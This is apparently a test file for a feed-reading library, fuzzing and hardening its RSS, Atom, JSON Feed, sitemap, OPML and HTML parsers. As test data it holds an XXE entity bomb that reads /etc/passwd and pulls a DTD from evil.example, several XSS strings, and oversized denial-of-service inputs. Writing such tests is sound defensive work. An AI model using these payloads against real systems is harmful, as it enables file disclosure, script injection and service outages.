import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from '@octavo/testing/property.ts'
import { discoverFeeds } from '../../src/feeds/discovery.ts'
import { readHtmlContent } from '../../src/feeds/html-content.ts'
import { readOpml } from '../../src/feeds/opml.ts'
import { readFeed } from '../../src/feeds/read-feed.ts'
import { readSitemap } from '../../src/feeds/sitemap.ts'
import { feedUrl, read, readOne, rss } from './read.ts'

const samples = [
  rss(
    '<title>T</title><item><title>a &amp; b</title><link>/x</link><description><![CDATA[<p>x</p>]]></description><pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item>',
  ),
  '<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/b/"><entry><content type="xhtml"><div><b>x</b></div></content></entry></feed>',
  '{"version":"https://jsonfeed.org/version/1","title":"t","items":[{"id":"1","content_html":"<p>x","attachments":[{"url":"/a"}]}]}',
  '<urlset><url><loc>https://news.example/</loc><lastmod>2026-03-02</lastmod></url></urlset>',
  '<opml><body><outline text="f"><outline xmlUrl="https://news.example/f"/></outline></body></opml>',
]

/** A sample with pieces repeated, removed, replaced by other samples or by random bytes. */
const mutated = fc
  .tuple(
    fc.constantFrom(...samples),
    fc.array(
      fc.tuple(
        fc.nat(1_000),
        fc.nat(40),
        fc.oneof(
          fc.constant(''),
          fc.constantFrom('<', '>', '&', ']]>', '<!', '"', '\0', '<![CDATA['),
          fc.constantFrom(...samples),
          fc.string(),
        ),
      ),
      { maxLength: 8 },
    ),
    fc.uint8Array({ maxLength: 6 }),
  )
  .map(([sample, changes, bytes]) => {
    let text = sample
    for (const [at, length, piece] of changes) {
      const start = at % (text.length + 1)
      text = text.slice(0, start) + piece + text.slice(start + length)
    }
    return Buffer.concat([Buffer.from(text), bytes])
  })

test('no bytes make a reader throw, and every returned URL is http(s)', () => {
  fc.assert(
    fc.property(
      mutated,
      fc.option(
        fc.constantFrom('text/xml; charset=utf-16', 'text/xml; charset=nonsense', 'application/json'),
      ),
      (bytes, type) => {
        const options = { url: feedUrl, contentType: type ?? undefined }
        const feed = readFeed(bytes, options)
        for (const { url, commentsUrl, enclosures } of feed?.entries ?? []) {
          for (const one of [url, commentsUrl, ...enclosures.map((enclosure) => enclosure.url)]) {
            assert.match(one ?? 'https:', /^https?:/)
          }
        }
        readSitemap(bytes, options)
        readOpml(bytes)
        const text = bytes.toString()
        readHtmlContent(text, feedUrl)
        discoverFeeds(text, { url: feedUrl, linkHeader: text })
      },
    ),
    { numRuns: 500 },
  )
})

test('entities of a document type are never expanded', () => {
  const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">
    <!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>
    <rss><channel><title>&lol2;&secret;</title></channel></rss>`
  assert.equal(read(bomb).title, '&lol2;&secret;')
})

test('markup in one-line texts is text without tags', () => {
  const feed = read(
    rss(`<title>&lt;script&gt;alert(1)&lt;/script&gt;Safe&lt;img src=x onerror=alert(1)&gt;</title>
    <item><title><![CDATA[<svg onload=alert(1)>x</svg>T<b>i</b>tle]]></title><category>&lt;b&gt;</category></item>`),
  )
  assert.equal(feed.title, 'Safe')
  assert.equal(feed.entries[0]?.title, 'Title')
})

test('an HTML page is no feed', () => {
  const page =
    '<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="/rss"></head><body><rss/></body></html>'
  assert.equal(readFeed(Buffer.from(page), { url: feedUrl }), undefined)
  assert.equal(readFeed(Buffer.alloc(0), { url: feedUrl }), undefined)
})

const million = 1_000_000
const hostile: readonly (readonly [name: string, xml: string, entries: number])[] = [
  ['deep nesting', `<rss><channel>${'<a>'.repeat(50_000)}`, 0],
  [
    'deep nesting before the items',
    `<rss><channel>${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}<item/></channel></rss>`,
    1,
  ],
  [
    'end tags without start tags in a deep tree',
    `<rss><channel>${'<a>'.repeat(250)}${'</b>'.repeat(million)}`,
    0,
  ],
  ['a million attributes', `<rss ${'a="1" '.repeat(million)}><channel><item/></channel></rss>`, 1],
  ['thousands of namespaces', `<rss><channel><item/>${'<x:a xmlns:x="y" xmlns:z="y">'.repeat(20_000)}`, 1],
  ['megabytes of brackets', rss(`<item><description>${'<'.repeat(2 * million)}</description></item>`), 1],
  ['megabytes of ampersands', rss(`<item><description>${'&'.repeat(2 * million)};</description></item>`), 1],
  ['megabytes of beginnings of tags', rss(`<item><title>${'&lt;a '.repeat(million / 2)}</title></item>`), 1],
  ['an unclosed comment', `<rss><channel><item/></channel><!--${'-'.repeat(million)}`, 1],
  ['an unclosed attribute', `<rss><channel><item/><a b="${'x'.repeat(million)}`, 1],
  ['more items than a feed may have', `<rss><channel>${'<item/>'.repeat(60_000)}`, 10_000],
  ['more elements than a document may have', `<rss><channel><item/>${'<a/>'.repeat(million)}<item/>`, 1],
]
for (const [name, xml, entries] of hostile) {
  test(`a feed with ${name}`, () => assert.equal(read(xml).entries.length, entries))
}

test('long lists in an item are cut off', () => {
  const { categories, enclosures, authors } = readOne(
    rss(
      `<item>${Array.from({ length: 300 }, (_, n) => `<category>${n}</category><enclosure url="/${n}"/><dc:creator>${n}</dc:creator>`).join('')}</item>`,
    ),
  )
  assert.deepEqual([categories.length, enclosures.length, authors.length], [100, 100, 50])
})

test('what entries inherit or resolve has a bounded length', () => {
  const base = `https://news.example/${'b'.repeat(8_000)}/`
  const links = Array.from({ length: 1_000 }, (_, n) => `<a href=${n}>`).join('')
  assert.ok(readHtmlContent(links, base).links.join('').length < 20 * links.length)
  const long = 'x'.repeat(100_000)
  assert.equal(readOne(`<rss xml:lang="${long}"><channel><item/></channel></rss>`).language, undefined)
  const version = 'https://jsonfeed.org/version/1.1'
  const json = { version, language: long, authors: [{ name: long }], items: [{ id: '1' }] }
  const { authors, language } = readOne(JSON.stringify(json))
  assert.deepEqual([authors[0]?.name?.length, language], [500, undefined])
  const nested = `<rss xml:base="${base}"><channel>${'<x xml:base="y"/>'.repeat(20_000)}<item xml:base="https://late.example/"><link>z</link></item></channel></rss>`
  assert.equal(readOne(nested).url, `${base}z`)
})

test('a long name of a folder is cut off', () => {
  const list = `<opml><body><outline text="${'a'.repeat(million)}"><outline xmlUrl="https://news.example/1"/></outline></body></opml>`
  assert.equal(readOpml(Buffer.from(list))?.subscriptions[0]?.folders[0]?.length, 200)
})

test('a list of URLs with megabytes of spaces', () => {
  const bytes = Buffer.from(`https://news.example/1${' '.repeat(million)}x`)
  assert.equal(readSitemap(bytes, { url: feedUrl }), undefined)
})

test('hostile HTML', () => {
  assert.equal(readHtmlContent('<div>x'.repeat(100_000), feedUrl).text.length, 199_999)
  assert.equal(readHtmlContent(`<a ${'x=1 '.repeat(million)}>y`, feedUrl).text, 'y')
  assert.equal(readHtmlContent('<a href="/x">'.repeat(100_000), feedUrl).links.length, 1)
  assert.equal(readHtmlContent('<b> </b>'.repeat(100_000), feedUrl).text, '')
  assert.equal(readHtmlContent('<'.repeat(million), feedUrl).text.length, million)
})
